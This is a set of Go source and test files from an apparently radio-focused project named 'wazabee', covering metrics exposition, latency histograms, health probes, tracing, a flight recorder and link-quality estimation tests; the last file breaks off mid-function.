		snap := SeriesSnapshot{Name: s.name, Kind: s.kind}
		if len(s.labels) > 0 {
			snap.Labels = make(map[string]string, len(s.labels))
			for _, l := range s.labels {
				snap.Labels[l.Name] = l.Value
			}
		}
		switch s.kind {
		case "counter":
			snap.Value = float64(s.counter.Value())
		case "gauge":
			snap.Value = s.gauge.Value()
		case "histogram":
			st := s.hist.snapshot()
			snap.Count = st.count
			snap.Sum = st.sum
			if st.count > 0 {
				snap.Mean = st.sum / float64(st.count)
				snap.Quantiles = make(map[string]float64, len(snapshotQuantiles))
				for _, q := range snapshotQuantiles {
					snap.Quantiles[fmt.Sprintf("p%g", q*100)] = s.hist.Quantile(q)
				}
			}
			var cum uint64
			for i, b := range st.bounds {
				cum += st.counts[i]
				snap.Buckets = append(snap.Buckets, BucketSnapshot{LE: b, Count: cum})
			}
		}
		out = append(out, snap)
	}
	return out
}

// JSON returns the snapshot as indented JSON, expvar-style.
func (r *Registry) JSON() ([]byte, error) {
	return json.MarshalIndent(r.Snapshot(), "", "  ")
}

// ServeHTTP makes the registry an http.Handler serving the Prometheus
// text encoding (or the JSON snapshot when the request asks for
// ?format=json), so commands can mount it at /metrics next to
// net/http/pprof.
func (r *Registry) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	if req.URL.Query().Get("format") == "json" {
		b, err := r.JSON()
		if err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write(b)
		return
	}
	w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
	_ = r.WritePrometheus(w)
}
