package obs

import "time"

// Pipeline latency instrumentation (§7 catalogue: wazabee_latency_*).
//
// Every live capture is stamped with a monotonic origin time the moment
// the victim network emits it (zigbee.Capture.Origin). The stamp rides
// the in-memory side of capture.Record — it is never serialised — and
// each stage of the delivery path observes its distance from the origin
// into one shared histogram family, labelled by stage:
//
//	stage="medium"   radio.Medium.Deliver wall time (channel simulation)
//	stage="demod"    emission → RxStream verdict (per decoder)
//	stage="publish"  emission → capture.Hub.Publish accepted
//	stage="queue"    per-subscriber queue residency (offer → pop)
//	stage="deliver"  emission → subscriber pop (end-to-end, per subscriber)
//
// The medium stage is self-timed rather than origin-anchored: it
// measures the cost of the channel simulation itself, so the daemon's
// emit→demod numbers can be decomposed into medium vs DSP cost.
//
// The deliver stage is the delivery-latency SLO: its p50/p99 per
// subscriber is what the multi-tenant scaling work is judged against.
// Records without an origin stamp (replayed captures, bare test
// records) skip the origin-anchored stages; queue residency is observed
// regardless, since it needs no origin.

// LatencySecondsMetric is the shared histogram family for pipeline
// latencies; the position in the pipeline is carried in the "stage"
// label, further qualified by "decoder" or "subscriber" where the stage
// is per-decoder or per-subscriber.
const LatencySecondsMetric = "wazabee_latency_seconds"

// LatencyBuckets is the bucket layout of the latency family: 1 µs to
// ~67 s in powers of two — fine enough to separate the DSP stages from
// queue residency, wide enough that a stalled subscriber still lands in
// a finite bucket.
var LatencyBuckets = ExponentialBuckets(1e-6, 2, 27)

// LatencyHistogram returns (creating if needed) the latency histogram
// for one pipeline stage, with optional extra label pairs. reg nil
// falls back to the process default registry.
func LatencyHistogram(reg *Registry, stage string, labelPairs ...string) *Histogram {
	pairs := append([]string{"stage", stage}, labelPairs...)
	return Or(reg).Histogram(LatencySecondsMetric, LatencyBuckets, pairs...)
}

// DurationSeconds converts a duration to float seconds with one
// multiply. time.Duration.Seconds splits whole seconds from the
// nanosecond remainder (two integer divisions) to stay exact past ~104
// days; latency observations never get there, and the per-record
// observation sites are hot enough that the divisions show up in the
// publish benchmark.
func DurationSeconds(d time.Duration) float64 {
	return float64(d) * 1e-9
}

// ObserveLatency records the distance from origin to now into the
// stage's histogram. A zero origin (an unstamped record) is a no-op, so
// callers on the hot path can call it unconditionally. The helper is
// for cold paths; hot paths (Hub.Publish, Subscription.pop,
// RxStream.Flush) pre-resolve their histogram once and observe
// directly.
func ObserveLatency(reg *Registry, stage string, origin time.Time, labelPairs ...string) {
	if origin.IsZero() {
		return
	}
	LatencyHistogram(reg, stage, labelPairs...).Observe(DurationSeconds(time.Since(origin)))
}
