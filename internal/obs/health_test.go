package obs

import (
	"context"
	"encoding/json"
	"errors"
	"net/http/httptest"
	"testing"
	"time"
)

// getHealth hits a handler and decodes the snapshot body.
func getHealth(t *testing.T, h *Health, ready bool) (int, HealthSnapshot) {
	t.Helper()
	handler := h.Healthz()
	if ready {
		handler = h.Readyz()
	}
	rec := httptest.NewRecorder()
	handler.ServeHTTP(rec, httptest.NewRequest("GET", "/", nil))
	var snap HealthSnapshot
	if err := json.Unmarshal(rec.Body.Bytes(), &snap); err != nil {
		t.Fatalf("health body not JSON: %v\n%s", err, rec.Body.String())
	}
	return rec.Code, snap
}

// TestHealthPushAndProbe covers the push/pull state machine: the worse
// of the pushed state and the probe result wins, critical Down flips
// readiness, and healthz stays 200 throughout.
func TestHealthPushAndProbe(t *testing.T) {
	reg := NewRegistry()
	h := NewHealth(reg)

	var probeErr error
	h.Register("listener", true, func() error { return probeErr })
	pcap := h.Register("pcap", false, nil)

	code, snap := getHealth(t, h, true)
	if code != 200 || !snap.Ready || snap.Status != "ok" {
		t.Fatalf("fresh registry: code=%d snap=%+v", code, snap)
	}
	if len(snap.Components) != 2 || snap.Components[0].Name != "listener" || snap.Components[1].Name != "pcap" {
		t.Fatalf("components not sorted: %+v", snap.Components)
	}

	// A non-critical degradation: still ready, overall status degraded.
	pcap.SetDegraded("disk full")
	code, snap = getHealth(t, h, true)
	if code != 200 || !snap.Ready || snap.Status != "degraded" {
		t.Fatalf("degraded pcap: code=%d snap=%+v", code, snap)
	}
	if snap.Components[1].Detail != "disk full" {
		t.Fatalf("degraded detail %q", snap.Components[1].Detail)
	}

	// A critical probe failure: readyz flips to 503, healthz stays 200.
	probeErr = errors.New("accept loop exited")
	code, snap = getHealth(t, h, true)
	if code != 503 || snap.Ready || snap.Status != "down" {
		t.Fatalf("dead listener readyz: code=%d snap=%+v", code, snap)
	}
	if code, snap = getHealth(t, h, false); code != 200 || snap.Ready {
		t.Fatalf("dead listener healthz: code=%d ready=%v, want 200/false", code, snap.Ready)
	}
	if g := reg.Gauge("wazabee_health_status", "component", "listener").Value(); g != float64(HealthDown) {
		t.Fatalf("listener status gauge %g, want %g", g, float64(HealthDown))
	}
	if g := reg.Gauge("wazabee_health_ready").Value(); g != 0 {
		t.Fatalf("ready gauge %g, want 0", g)
	}

	// Recovery.
	probeErr = nil
	pcap.SetOK()
	code, snap = getHealth(t, h, true)
	if code != 200 || !snap.Ready || snap.Status != "ok" {
		t.Fatalf("recovered: code=%d snap=%+v", code, snap)
	}
	if g := reg.Gauge("wazabee_health_ready").Value(); g != 1 {
		t.Fatalf("ready gauge %g, want 1", g)
	}
}

// TestHealthPushedDownBeatsPassingProbe checks a pushed Down is never
// masked by a passing probe.
func TestHealthPushedDownBeatsPassingProbe(t *testing.T) {
	h := NewHealth(NewRegistry())
	c := h.Register("hub", true, func() error { return nil })
	c.SetDown("closed")
	if code, snap := getHealth(t, h, true); code != 503 || snap.Ready {
		t.Fatalf("pushed down masked by probe: code=%d snap=%+v", code, snap)
	}
}

// TestHealthRegisterTwice returns the same handle and keeps one gauge
// series per component.
func TestHealthRegisterTwice(t *testing.T) {
	h := NewHealth(NewRegistry())
	a := h.Register("x", false, nil)
	b := h.Register("x", false, func() error { return errors.New("boom") })
	if a != b {
		t.Fatal("re-registration returned a new handle")
	}
	if _, snap := getHealth(t, h, false); len(snap.Components) != 1 || snap.Components[0].Status != "down" {
		t.Fatalf("re-registered probe not applied: %+v", snap.Components)
	}
}

// TestHealthRun checks the periodic prober keeps the gauges fresh and
// stops on cancellation.
func TestHealthRun(t *testing.T) {
	reg := NewRegistry()
	h := NewHealth(reg)
	c := h.Register("loop", true, nil)

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { defer close(done); h.Run(ctx, 5*time.Millisecond) }()

	// Wait for the prober's initial synchronous check (reading the gauge
	// creates it at zero, so distinguish "not yet probed" via ready=1).
	deadline := time.Now().Add(2 * time.Second)
	for reg.Gauge("wazabee_health_ready").Value() != 1 {
		if time.Now().After(deadline) {
			t.Fatal("prober never ran its first check")
		}
		time.Sleep(time.Millisecond)
	}

	c.SetDown("flipped")
	for reg.Gauge("wazabee_health_ready").Value() != 0 {
		if time.Now().After(deadline) {
			t.Fatal("prober never noticed the flip")
		}
		time.Sleep(time.Millisecond)
	}
	if reg.Gauge("wazabee_uptime_seconds").Value() <= 0 {
		t.Error("uptime gauge not set by the prober")
	}
	cancel()
	select {
	case <-done:
	case <-time.After(2 * time.Second):
		t.Fatal("prober did not stop on cancellation")
	}
}
