package obs

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestTraceNesting(t *testing.T) {
	tr := NewTrace("roundtrip")
	frame := tr.Start("frame").SetAttr("channel", 14)
	mod := tr.Start("modulate")
	mod.End()
	med := tr.Start("medium").SetAttr("snr_db", 10)
	med.End()
	rx := tr.Start("receive")
	tr.Start("aa-correlate").End()
	tr.Start("despread").End()
	rx.End()
	frame.End()

	roots := tr.Roots()
	if len(roots) != 1 {
		t.Fatalf("roots = %d, want 1", len(roots))
	}
	f := roots[0]
	if len(f.Children) != 3 {
		t.Fatalf("frame children = %d, want 3 (modulate, medium, receive)", len(f.Children))
	}
	rxSpan := f.Children[2]
	if rxSpan.Name != "receive" || len(rxSpan.Children) != 2 {
		t.Fatalf("receive span = %q with %d children, want 2", rxSpan.Name, len(rxSpan.Children))
	}
	if f.DurNs <= 0 {
		t.Error("frame span has no duration")
	}

	tree := tr.Tree()
	for _, want := range []string{"trace roundtrip", "frame", "aa-correlate", "despread", "channel=14", "snr_db=10"} {
		if !strings.Contains(tree, want) {
			t.Errorf("tree missing %q:\n%s", want, tree)
		}
	}
	// Children are indented one level deeper than their parent.
	lines := strings.Split(tree, "\n")
	indent := func(sub string) int {
		for _, l := range lines {
			if strings.Contains(l, sub) {
				return len(l) - len(strings.TrimLeft(l, " "))
			}
		}
		return -1
	}
	if !(indent("frame") < indent("receive") && indent("receive") < indent("despread")) {
		t.Errorf("tree indentation does not reflect nesting:\n%s", tree)
	}

	b, err := tr.JSON()
	if err != nil {
		t.Fatal(err)
	}
	var parsed struct {
		Name  string  `json:"name"`
		Spans []*Span `json:"spans"`
	}
	if err := json.Unmarshal(b, &parsed); err != nil {
		t.Fatalf("trace JSON: %v", err)
	}
	if parsed.Name != "roundtrip" || len(parsed.Spans) != 1 {
		t.Errorf("JSON = name %q, %d spans", parsed.Name, len(parsed.Spans))
	}
}

// TestTraceEarlyReturn ends a parent while children are still open — the
// error-path shape — and checks the children get closed too.
func TestTraceEarlyReturn(t *testing.T) {
	tr := NewTrace("err")
	parent := tr.Start("receive")
	child := tr.Start("despread")
	parent.End()
	if child.Duration() <= 0 {
		t.Error("dangling child not closed by parent End")
	}
	// Double-End is harmless and does not disturb later spans.
	child.End()
	next := tr.Start("again")
	next.End()
	if len(tr.Roots()) != 2 {
		t.Errorf("roots = %d, want 2", len(tr.Roots()))
	}
}

func TestTraceReset(t *testing.T) {
	tr := NewTrace("x")
	tr.Start("a").End()
	tr.Reset()
	if len(tr.Roots()) != 0 {
		t.Error("roots survive Reset")
	}
	tr.Start("b").End()
	if got := len(tr.Roots()); got != 1 {
		t.Errorf("roots after reuse = %d, want 1", got)
	}
}

func TestNilSpanSafe(t *testing.T) {
	var s *Span
	s.SetAttr("k", "v")
	if s.End() != 0 || s.Duration() != 0 {
		t.Error("nil span should be inert")
	}
}
