package obs

import (
	"encoding/json"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// goldenRegistry builds a deterministic registry exercising every
// metric kind, label handling and the histogram bucket encoding.
func goldenRegistry() *Registry {
	reg := NewRegistry()
	reg.SetHelp("wazabee_frames_total", "Frames processed by the pipeline.")
	reg.SetHelp("wazabee_worst_chip_distance", "Worst per-symbol Hamming distance of received frames.")
	reg.Counter("wazabee_frames_total", "side", "rx", "result", "ok").Add(42)
	reg.Counter("wazabee_frames_total", "side", "rx", "result", "sync_failure").Add(3)
	reg.Counter("wazabee_frames_total", "side", "tx", "result", "ok").Add(40)
	reg.Gauge("wazabee_link_snr_db").Set(9.5)
	h := reg.Histogram("wazabee_worst_chip_distance", LinearBuckets(0, 1, 4))
	for _, v := range []float64{0, 0, 1, 2, 2, 2, 3, 7} {
		h.Observe(v)
	}
	return reg
}

// TestPrometheusGolden compares the text exposition against the checked
// in golden file. Regenerate with:
//
//	OBS_UPDATE_GOLDEN=1 go test ./internal/obs -run TestPrometheusGolden
func TestPrometheusGolden(t *testing.T) {
	got := goldenRegistry().PrometheusText()
	golden := filepath.Join("testdata", "prometheus.golden")
	if os.Getenv("OBS_UPDATE_GOLDEN") != "" {
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("Prometheus encoding drifted from golden file.\n--- got ---\n%s--- want ---\n%s", got, want)
	}
}

func TestPrometheusEncodingShape(t *testing.T) {
	text := goldenRegistry().PrometheusText()
	for _, want := range []string{
		"# HELP wazabee_frames_total Frames processed by the pipeline.",
		"# TYPE wazabee_frames_total counter",
		`wazabee_frames_total{result="ok",side="rx"} 42`,
		"# TYPE wazabee_link_snr_db gauge",
		"wazabee_link_snr_db 9.5",
		"# TYPE wazabee_worst_chip_distance histogram",
		`wazabee_worst_chip_distance_bucket{le="2"} 6`,
		`wazabee_worst_chip_distance_bucket{le="+Inf"} 8`,
		"wazabee_worst_chip_distance_sum 17",
		"wazabee_worst_chip_distance_count 8",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("encoding missing %q\nfull output:\n%s", want, text)
		}
	}
	// TYPE lines appear once per family even with several series.
	if strings.Count(text, "# TYPE wazabee_frames_total counter") != 1 {
		t.Error("duplicate TYPE line for a multi-series family")
	}
}

func TestJSONSnapshot(t *testing.T) {
	b, err := goldenRegistry().JSON()
	if err != nil {
		t.Fatal(err)
	}
	var snaps []SeriesSnapshot
	if err := json.Unmarshal(b, &snaps); err != nil {
		t.Fatalf("snapshot is not valid JSON: %v", err)
	}
	byName := map[string]SeriesSnapshot{}
	for _, s := range snaps {
		byName[s.Name+"/"+s.Labels["side"]+"/"+s.Labels["result"]] = s
	}
	if s := byName["wazabee_frames_total/rx/ok"]; s.Value != 42 {
		t.Errorf("counter snapshot value = %g, want 42", s.Value)
	}
	hist, ok := byName["wazabee_worst_chip_distance//"]
	if !ok {
		t.Fatal("histogram missing from snapshot")
	}
	if hist.Count != 8 || hist.Sum != 17 {
		t.Errorf("histogram snapshot count/sum = %d/%g, want 8/17", hist.Count, hist.Sum)
	}
	if _, ok := hist.Quantiles["p50"]; !ok {
		t.Error("histogram snapshot missing p50 quantile")
	}
}

func TestServeHTTP(t *testing.T) {
	reg := goldenRegistry()
	rec := httptest.NewRecorder()
	reg.ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
	if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
		t.Errorf("content type = %q", ct)
	}
	if !strings.Contains(rec.Body.String(), "wazabee_frames_total") {
		t.Error("text endpoint missing metrics")
	}

	rec = httptest.NewRecorder()
	reg.ServeHTTP(rec, httptest.NewRequest("GET", "/metrics?format=json", nil))
	var snaps []SeriesSnapshot
	if err := json.Unmarshal(rec.Body.Bytes(), &snaps); err != nil {
		t.Fatalf("json endpoint: %v", err)
	}
}
