package obs

import (
	"context"
	"math"
	"runtime/debug"
	"runtime/metrics"
	"time"
)

// Runtime telemetry (§7 catalogue: wazabee_runtime_*, wazabee_build_info,
// wazabee_uptime_seconds): a periodic sampler over the Go runtime's own
// metrics — goroutine count, heap size, GC activity and pause/scheduler
// latency quantiles — plus the one-shot build-info gauge every binary
// registers so a scrape self-identifies the code it came from.

// processStart anchors wazabee_uptime_seconds.
var processStart = time.Now()

// runtimeSamples maps the runtime/metrics names the sampler reads to
// the gauges it exports. Histogram-valued samples are reduced to their
// p50/p99 below.
var runtimeSamples = []struct {
	src  string
	name string
	hist bool
}{
	{"/sched/goroutines:goroutines", "wazabee_runtime_goroutines", false},
	{"/memory/classes/heap/objects:bytes", "wazabee_runtime_heap_bytes", false},
	{"/gc/heap/allocs:bytes", "wazabee_runtime_alloc_bytes_total", false},
	{"/gc/cycles/total:gc-cycles", "wazabee_runtime_gc_cycles_total", false},
	{"/gc/pauses:seconds", "wazabee_runtime_gc_pause_seconds", true},
	{"/sched/latencies:seconds", "wazabee_runtime_sched_latency_seconds", true},
}

// runtimeQuantiles are the quantile points exported per histogram
// sample, as a "quantile" label.
var runtimeQuantiles = []struct {
	q     float64
	label string
}{{0.5, "0.5"}, {0.99, "0.99"}}

// SampleRuntime reads the runtime metrics once into reg (nil falls back
// to the process default) and refreshes wazabee_uptime_seconds. The
// sampler goroutine calls it on every tick; commands that exit quickly
// can call it once before dumping their registry.
func SampleRuntime(reg *Registry) {
	r := Or(reg)
	samples := make([]metrics.Sample, len(runtimeSamples))
	for i, s := range runtimeSamples {
		samples[i].Name = s.src
	}
	metrics.Read(samples)
	for i, s := range runtimeSamples {
		switch samples[i].Value.Kind() {
		case metrics.KindUint64:
			r.Gauge(s.name).Set(float64(samples[i].Value.Uint64()))
		case metrics.KindFloat64:
			r.Gauge(s.name).Set(samples[i].Value.Float64())
		case metrics.KindFloat64Histogram:
			h := samples[i].Value.Float64Histogram()
			for _, rq := range runtimeQuantiles {
				r.Gauge(s.name, "quantile", rq.label).Set(histQuantile(h, rq.q))
			}
		}
	}
	r.Gauge("wazabee_uptime_seconds").Set(time.Since(processStart).Seconds())
}

// histQuantile estimates the q-quantile of a runtime/metrics histogram
// by locating the covering bucket and taking its midpoint (lower bound
// for the open-ended tail bucket).
func histQuantile(h *metrics.Float64Histogram, q float64) float64 {
	if h == nil || len(h.Counts) == 0 {
		return 0
	}
	var total uint64
	for _, c := range h.Counts {
		total += c
	}
	if total == 0 {
		return 0
	}
	rank := q * float64(total)
	var cum uint64
	for i, c := range h.Counts {
		cum += c
		if float64(cum) >= rank {
			lo, hi := h.Buckets[i], h.Buckets[i+1]
			if math.IsInf(lo, -1) {
				return hi
			}
			if math.IsInf(hi, 1) {
				return lo
			}
			return (lo + hi) / 2
		}
	}
	last := h.Buckets[len(h.Buckets)-1]
	if math.IsInf(last, 1) {
		last = h.Buckets[len(h.Buckets)-2]
	}
	return last
}

// StartRuntimeSampler samples the runtime into reg every period until
// ctx is cancelled. It takes one sample synchronously before returning,
// so the gauges exist by the time the caller serves its first scrape.
func StartRuntimeSampler(ctx context.Context, reg *Registry, period time.Duration) {
	if period <= 0 {
		period = 5 * time.Second
	}
	SampleRuntime(reg)
	go func() {
		ticker := time.NewTicker(period)
		defer ticker.Stop()
		for {
			select {
			case <-ctx.Done():
				return
			case <-ticker.C:
				SampleRuntime(reg)
			}
		}
	}()
}

// RegisterBuildInfo sets the wazabee_build_info gauge (value fixed at
// 1) labelled with the toolchain version and VCS revision from the
// binary's embedded build information, so every scrape self-identifies
// the build it came from. reg nil falls back to the process default.
func RegisterBuildInfo(reg *Registry) {
	goversion, revision := "unknown", "unknown"
	if bi, ok := debug.ReadBuildInfo(); ok {
		goversion = bi.GoVersion
		for _, s := range bi.Settings {
			if s.Key == "vcs.revision" {
				revision = s.Value
			}
		}
	}
	r := Or(reg)
	r.Gauge("wazabee_build_info", "goversion", goversion, "vcs_revision", revision).Set(1)
	r.Gauge("wazabee_uptime_seconds").Set(time.Since(processStart).Seconds())
}
