package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"sort"
	"strconv"
	"sync/atomic"
	"time"
)

// Flight is the flight recorder: a bounded lock-free ring of recent
// structured events that correlates the log, trace and metric streams
// for post-mortem analysis. Counters can say *that* a subscriber
// dropped records; the flight recorder says *which* frames, when, at
// what latency, next to whatever else the pipeline was doing — the
// evidence a stalled subscriber or an unexplained drop leaves behind.
//
// Writers never block: each Record claims a slot with one atomic add
// and publishes an immutable event value with one atomic pointer store.
// Readers (Snapshot, the /debug/flight handler, the SIGQUIT dump) load
// the slot pointers — an event is never mutated after publication, so
// torn reads are impossible by construction and the whole structure is
// clean under the race detector. The cost is one small allocation per
// event, acceptable at flight-recorder rates (frames, drops, lifecycle
// transitions — not per-sample DSP work).
type Flight struct {
	slots []atomic.Pointer[FlightEvent]
	// cursor counts events ever recorded; slot index = (cursor-1) % len.
	cursor atomic.Uint64
}

// FlightEvent is one flight-recorder entry. Fields are fixed and flat
// so recording copies a struct instead of allocating.
type FlightEvent struct {
	// Seq is the recorder-assigned global sequence number, starting at 1.
	Seq uint64 `json:"seq"`
	// At is the event time.
	At time.Time `json:"ts"`
	// Kind classifies the event: "frame", "drop", "subscribe",
	// "unsubscribe", "error", "state", ...
	Kind string `json:"kind"`
	// Component is the pipeline component that recorded it.
	Component string `json:"component"`
	// Frame is the capture-stream sequence number the event refers to;
	// -1 when the event is not frame-linked.
	Frame int64 `json:"frame"`
	// Subscriber names the hub subscriber involved, when any.
	Subscriber string `json:"subscriber,omitempty"`
	// Latency is the event's associated latency in nanoseconds (e.g. the
	// end-to-end emit→publish distance of a "frame" event); 0 when none.
	Latency time.Duration `json:"latency_ns"`
	// Detail is free-form context ("pass", "no-sync", an error string).
	Detail string `json:"detail,omitempty"`
}

// NewFlight builds a recorder keeping the last capacity events (min 8).
func NewFlight(capacity int) *Flight {
	if capacity < 8 {
		capacity = 8
	}
	return &Flight{slots: make([]atomic.Pointer[FlightEvent], capacity)}
}

// defaultFlight is the process-wide recorder instrumented code falls
// back to when no explicit recorder is wired in.
var defaultFlight = NewFlight(4096)

// DefaultFlight returns the process-wide flight recorder.
func DefaultFlight() *Flight {
	return defaultFlight
}

// OrFlight returns f when non-nil and the process default otherwise —
// the idiom components with an optional Flight field use to resolve it.
func OrFlight(f *Flight) *Flight {
	if f != nil {
		return f
	}
	return defaultFlight
}

// Capacity returns the ring bound.
func (f *Flight) Capacity() int { return len(f.slots) }

// Recorded returns how many events have ever been recorded (≥ the
// number still retained).
func (f *Flight) Recorded() uint64 { return f.cursor.Load() }

// Record appends one event, overwriting the oldest once the ring is
// full. The event's Seq and (when zero) At are assigned by the
// recorder. Safe for any number of concurrent writers; never blocks.
func (f *Flight) Record(ev FlightEvent) {
	seq := f.cursor.Add(1)
	ev.Seq = seq
	if ev.At.IsZero() {
		ev.At = time.Now()
	}
	f.slots[(seq-1)%uint64(len(f.slots))].Store(&ev)
}

// Snapshot returns the retained events, oldest first. Every returned
// event is whole (events are immutable once published) and the result
// holds at most Capacity events.
func (f *Flight) Snapshot() []FlightEvent {
	out := make([]FlightEvent, 0, len(f.slots))
	for i := range f.slots {
		if ev := f.slots[i].Load(); ev != nil {
			out = append(out, *ev)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Seq < out[j].Seq })
	return out
}

// ServeHTTP serves the ring as JSON — the /debug/flight endpoint.
// Query parameters: ?n= limits to the most recent n events, ?kind=
// filters to one event kind.
func (f *Flight) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	events := f.Snapshot()
	q := req.URL.Query()
	if k := q.Get("kind"); k != "" {
		kept := events[:0]
		for _, ev := range events {
			if ev.Kind == k {
				kept = append(kept, ev)
			}
		}
		events = kept
	}
	if s := q.Get("n"); s != "" {
		n, err := strconv.Atoi(s)
		if err != nil || n < 0 {
			http.Error(w, fmt.Sprintf("obs: bad event count %q", s), http.StatusBadRequest)
			return
		}
		if n < len(events) {
			events = events[len(events)-n:]
		}
	}
	payload := struct {
		Capacity int           `json:"capacity"`
		Recorded uint64        `json:"recorded"`
		Events   []FlightEvent `json:"events"`
	}{Capacity: f.Capacity(), Recorded: f.Recorded(), Events: events}
	b, err := json.MarshalIndent(payload, "", "  ")
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	_, _ = w.Write(b)
}

// Dump writes the retained events as a human-readable table — the
// SIGQUIT / shutdown post-mortem form.
func (f *Flight) Dump(w io.Writer) {
	events := f.Snapshot()
	fmt.Fprintf(w, "flight recorder: %d events retained of %d recorded (capacity %d)\n",
		len(events), f.Recorded(), f.Capacity())
	for _, ev := range events {
		frame := "-"
		if ev.Frame >= 0 {
			frame = strconv.FormatInt(ev.Frame, 10)
		}
		lat := "-"
		if ev.Latency > 0 {
			lat = ev.Latency.String()
		}
		fmt.Fprintf(w, "  #%-7d %s %-11s %-10s frame=%-6s sub=%-12s lat=%-10s %s\n",
			ev.Seq, ev.At.Format("15:04:05.000"), ev.Kind, ev.Component,
			frame, orDash(ev.Subscriber), lat, ev.Detail)
	}
}

// Summary counts retained events by kind — the one-line shutdown form.
func (f *Flight) Summary() string {
	counts := make(map[string]int)
	for _, ev := range f.Snapshot() {
		counts[ev.Kind]++
	}
	kinds := make([]string, 0, len(counts))
	for k := range counts {
		kinds = append(kinds, k)
	}
	sort.Strings(kinds)
	parts := make([]string, 0, len(kinds))
	for _, k := range kinds {
		parts = append(parts, fmt.Sprintf("%s=%d", k, counts[k]))
	}
	if len(parts) == 0 {
		return "empty"
	}
	out := parts[0]
	for _, p := range parts[1:] {
		out += " " + p
	}
	return out
}

func orDash(s string) string {
	if s == "" {
		return "-"
	}
	return s
}
