package link

import (
	"encoding/json"
	"math"
	"math/rand"
	"net/http/httptest"
	"strings"
	"testing"

	"wazabee/internal/dsp"
	"wazabee/internal/obs"
)

func TestComputeLQIScale(t *testing.T) {
	cases := []struct {
		name     string
		cer, snr float64
		snrValid bool
		want     uint8
	}{
		{"perfect chips, saturated SNR", 0, 30, true, 255},
		{"perfect chips, no SNR estimate", 0, 0, false, 255},
		{"perfect chips, zero SNR", 0, 0, true, 191},
		{"max CER bottoms out", 0.30, 30, true, 0},
		{"beyond max CER clamps", 0.9, 30, true, 0},
		{"half CER, saturated SNR", 0.15, 30, true, 128},
	}
	for _, c := range cases {
		if got := ComputeLQI(c.cer, c.snr, c.snrValid); got != c.want {
			t.Errorf("%s: ComputeLQI(%g, %g, %v) = %d, want %d",
				c.name, c.cer, c.snr, c.snrValid, got, c.want)
		}
	}
}

func TestComputeLQIMonotonicInCER(t *testing.T) {
	prev := ComputeLQI(0, 10, true)
	for cer := 0.02; cer <= 0.32; cer += 0.02 {
		cur := ComputeLQI(cer, 10, true)
		if cur > prev {
			t.Fatalf("LQI not monotonically non-increasing in CER: %d > %d at cer=%g", cur, prev, cer)
		}
		prev = cur
	}
}

func TestFinalizeUndecodedFrameGetsZeroLQI(t *testing.T) {
	st := &Stats{SNRdB: 30, SNRValid: true}
	st.Finalize()
	if st.LQI != 0 {
		t.Errorf("LQI of frame with no despread symbols = %d, want 0", st.LQI)
	}
	st = &Stats{ChipsCompared: 100, ChipErrors: 0, SNRdB: 30, SNRValid: true}
	st.Finalize()
	if st.LQI != 255 {
		t.Errorf("LQI of error-free frame = %d, want 255", st.LQI)
	}
}

func TestStatsResultClassification(t *testing.T) {
	cases := []struct {
		st   Stats
		want string
	}{
		{Stats{}, "no_sync"},
		{Stats{Synced: true}, "despread_failed"},
		{Stats{Synced: true, Gated: true}, "gated"},
		{Stats{Synced: true, Decoded: true}, "decoded"},
	}
	for _, c := range cases {
		if got := c.st.Result(); got != c.want {
			t.Errorf("Result(%+v) = %q, want %q", c.st, got, c.want)
		}
	}
}

// TestMeasureRecoversConfiguredSNR builds a synthetic capture — unit
// carrier in the frame span, AWGN everywhere — and checks the estimator
// recovers the configured SNR within tolerance across a sweep.
func TestMeasureRecoversConfiguredSNR(t *testing.T) {
	rnd := rand.New(rand.NewSource(3))
	const lead, span, lag = 800, 4000, 800
	for _, snrDB := range []float64{0, 5, 10, 15, 20, 25} {
		sig := make(dsp.IQ, lead+span+lag)
		for i := lead; i < lead+span; i++ {
			sig[i] = 1
		}
		noisePower := 1.0 / math.Pow(10, snrDB/10)
		sigma := math.Sqrt(noisePower / 2)
		for i := range sig {
			sig[i] += complex(rnd.NormFloat64()*sigma, rnd.NormFloat64()*sigma)
		}
		rssi, noise, got, ok := Measure(sig, lead, lead+span, 8)
		if !ok {
			t.Fatalf("snr %g: Measure not ok", snrDB)
		}
		if math.Abs(got-snrDB) > 1.5 {
			t.Errorf("snr %g: estimated %.2f dB, off by more than 1.5 dB", snrDB, got)
		}
		if rssi <= noise {
			t.Errorf("snr %g: rssi %.1f not above noise floor %.1f", snrDB, rssi, noise)
		}
	}
}

func TestMeasureRefusesShortRegions(t *testing.T) {
	sig := make(dsp.IQ, 64)
	for i := range sig {
		sig[i] = 1
	}
	// No noise-only margin at all.
	if _, _, _, ok := Measure(sig, 0, len(sig), 8); ok {
		t.Error("Measure ok with no noise-only region")
	}
	// Frame span shorter than the minimum.
	if _, _, _, ok := Measure(sig, 30, 34, 0); ok {
		t.Error("Measure ok with a 4-sample frame span")
	}
	// Degenerate span.
	if _, _, _, ok := Measure(sig, 40, 40, 0); ok {
		t.Error("Measure ok with empty span")
	}
}

func TestCFOFromBias(t *testing.T) {
	// One full turn per symbol at 2 Msym/s is 2 MHz of offset.
	if got := CFOFromBias(2*math.Pi, 2_000_000); math.Abs(got-2_000_000) > 1e-6 {
		t.Errorf("CFOFromBias(2π, 2M) = %g, want 2e6", got)
	}
	if got := CFOFromBias(0, 2_000_000); got != 0 {
		t.Errorf("CFOFromBias(0, 2M) = %g, want 0", got)
	}
	if got := CFOFromBias(-math.Pi, 2_000_000); math.Abs(got+1_000_000) > 1e-6 {
		t.Errorf("CFOFromBias(-π, 2M) = %g, want -1e6", got)
	}
}

func TestObserveFeedsRegistry(t *testing.T) {
